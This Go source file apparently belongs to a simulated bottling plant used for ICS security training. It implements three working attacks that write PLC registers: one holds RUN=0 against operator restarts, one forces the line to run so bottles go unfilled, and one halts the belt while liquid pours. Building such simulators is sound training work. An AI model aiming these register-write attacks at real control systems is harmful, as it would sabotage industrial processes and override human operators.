package attack

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"time"

	"github.com/nerrad567/virtuaplant-core/internal/register"
)

// Attack names.
const (
	StopAllName     = "stop-all"
	NeverStopName   = "never-stop"
	StopAndFillName = "stop-and-fill"
)

// Logger interface for optional logging.
type Logger interface {
	Info(msg string, args ...any)
	Warn(msg string, args ...any)
}

type noopLogger struct{}

func (noopLogger) Info(string, ...any) {}
func (noopLogger) Warn(string, ...any) {}

// retryDelay spaces writes while the bank is unreachable.
const retryDelay = 100 * time.Millisecond

// Report summarises one attack run.
type Report struct {
	Attack   string
	Writes   uint64
	Failures uint64 // writes lost to an unreachable bank
	Started  time.Time
	Ended    time.Time
}

// Option configures an Attacker.
type Option func(*Attacker)

// WithLogger sets the logger.
func WithLogger(l Logger) Option {
	return func(a *Attacker) { a.logger = l }
}

// WithPace inserts a delay between the writes of a tight-loop attack.
// Zero, the default, writes back to back.
func WithPace(d time.Duration) Option {
	return func(a *Attacker) { a.pace = d }
}

// Attacker writes to one PLC bank.
type Attacker struct {
	plc    register.Accessor
	logger Logger
	pace   time.Duration
}

// New creates an attacker over plc.
func New(plc register.Accessor, opts ...Option) *Attacker {
	a := &Attacker{plc: plc, logger: noopLogger{}}
	for _, opt := range opts {
		opt(a)
	}
	return a
}

// Names lists the attacks Run accepts.
func Names() []string {
	names := make([]string, 0, len(attacks))
	for n := range attacks {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

var attacks = map[string]func(*Attacker, context.Context) (Report, error){
	StopAllName:     (*Attacker).StopAll,
	NeverStopName:   (*Attacker).NeverStop,
	StopAndFillName: (*Attacker).StopAndFill,
}

// Run starts the named attack.
func (a *Attacker) Run(ctx context.Context, name string) (Report, error) {
	fn, ok := attacks[name]
	if !ok {
		return Report{}, fmt.Errorf("%w: %q", ErrUnknownAttack, name)
	}
	return fn(a, ctx)
}

// StopAll rewrites RUN=0 until ctx is cancelled, overriding any operator
// who tries to start the process, then writes RUN=1. An unreachable bank
// does not end the attack; the lost writes are counted in the report.
func (a *Attacker) StopAll(ctx context.Context) (Report, error) {
	r := a.begin(StopAllName)

	for ctx.Err() == nil {
		wait := a.pace
		if err := a.write(&r, register.TagRun, 0); err != nil {
			if !errors.Is(err, register.ErrBankUnavailable) {
				return a.end(r), err
			}
			// The client redials on the next write.
			r.Failures++
			wait = max(wait, retryDelay)
		}
		if wait > 0 {
			select {
			case <-ctx.Done():
			case <-time.After(wait):
			}
		}
	}

	err := a.write(&r, register.TagRun, 1)
	return a.end(r), err
}

// NeverStop sets NEVER_STOP=1 so the contact sensor is ignored and bottles
// pass the nozzle unfilled. It holds until ctx is cancelled, then writes
// NEVER_STOP=0.
func (a *Attacker) NeverStop(ctx context.Context) (Report, error) {
	r := a.begin(NeverStopName)

	if err := a.write(&r, register.TagNeverStop, uint16(register.ModeForceRun)); err != nil {
		return a.end(r), err
	}
	<-ctx.Done()

	err := a.write(&r, register.TagNeverStop, uint16(register.ModeOff))
	return a.end(r), err
}

// StopAndFill stops the line with RUN=0 and sets NEVER_STOP=2 so liquid
// pours onto the halted belt. On cancellation it writes NEVER_STOP=0 and
// RUN=1.
func (a *Attacker) StopAndFill(ctx context.Context) (Report, error) {
	r := a.begin(StopAndFillName)

	if err := a.write(&r, register.TagRun, 0); err != nil {
		return a.end(r), err
	}
	if err := a.write(&r, register.TagNeverStop, uint16(register.ModeForceFill)); err != nil {
		return a.end(r), err
	}
	<-ctx.Done()

	// Restore both even if the first write fails.
	err := errors.Join(
		a.write(&r, register.TagNeverStop, uint16(register.ModeOff)),
		a.write(&r, register.TagRun, 1),
	)
	return a.end(r), err
}

func (a *Attacker) begin(name string) Report {
	a.logger.Info("attack started", "attack", name)
	return Report{Attack: name, Started: time.Now()}
}

func (a *Attacker) end(r Report) Report {
	r.Ended = time.Now()
	a.logger.Info("attack finished", "attack", r.Attack, "writes", r.Writes, "failures", r.Failures, "duration", r.Ended.Sub(r.Started))
	return r
}

// write stores a raw value in the RW block.
func (a *Attacker) write(r *Report, offset, value uint16) error {
	if err := a.plc.Write(register.RWBase+offset, value); err != nil {
		a.logger.Warn("attack write failed", "attack", r.Attack, "offset", offset, "error", err)
		return fmt.Errorf("%s: writing %#x=%d: %w", r.Attack, register.RWBase+offset, value, err)
	}
	r.Writes++
	return nil
}
